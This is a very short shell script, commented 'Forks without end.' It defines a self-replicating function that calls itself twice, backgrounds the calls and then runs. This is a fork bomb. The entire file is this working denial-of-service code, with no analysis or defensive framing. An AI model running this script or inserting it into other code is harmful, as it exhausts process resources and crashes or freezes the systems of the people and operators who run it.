#!/bin/sh
# Forks without end.
again() { again | again & }
again
sleep 60
